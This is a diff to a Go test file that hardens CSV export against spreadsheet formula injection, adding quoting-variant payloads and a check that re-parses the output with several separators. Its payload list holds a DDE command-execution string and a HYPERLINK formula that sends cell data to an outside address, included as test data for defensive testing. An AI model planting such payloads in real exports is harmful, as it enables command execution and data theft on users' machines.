@@ -227,7 +227,7 @@ func TestTotals(t *testing.T) {
 var payloads = []string{
 	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
 	`=HYPERLINK("http://example.org/?x="&A1,"clic")`, "=cmd|' /C calc'!A0", "hola,=1+1", "hola;=1+1", `hola",=1+1,"`, "hola, \t=1+1",
-	"línea\n=1+1", `x";=1+1;"`, "\u200b=1+1", "\u200d=1+1", "\x00=1+1",
+	"línea\n=1+1", `x";=1+1;"`, `hola,"=1+1,"x`, `hola, "" =1+1`, `"=1+1`, `x|"@SUM(A1)"`, "\u200b=1+1", "\u200d=1+1", "\x00=1+1",
 }
 
 // hostile is a register in which every text is a payload.
@@ -259,7 +259,7 @@ func TestFormulasAreTexts(t *testing.T) {
 	}
 }
 
-// A spreadsheet with another list separator, which breaks at commas and knows no quotes within a field, finds no formula either.
+// A spreadsheet with another list separator, which breaks at commas, finds no formula either, whether it knows quotes or not.
 func TestCSVHoldsNoFormula(t *testing.T) {
 	begins := regexp.MustCompile(`^[\s"\x{200b}\x{200d}]*[=+\-@＝＋－＠]`)
 	var b bytes.Buffer
@@ -272,6 +272,19 @@ func TestCSVHoldsNoFormula(t *testing.T) {
 	for _, field := range strings.FieldsFunc(b.String(), func(c rune) bool { return strings.ContainsRune(",;\t\r\n", c) }) {
 		if begins.MatchString(field) {
 			t.Errorf("the field %q is a formula", field)
+		}
+	}
+	for _, separator := range ",|;" {
+		reader := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF")))
+		reader.Comma, reader.LazyQuotes, reader.FieldsPerRecord = separator, true, -1
+		all, err := reader.ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, field := range slices.Concat(all...) {
+			if begins.MatchString(field) {
+				t.Errorf("separated by %q, the field %q is a formula", separator, field)
+			}
 		}
 	}
 }
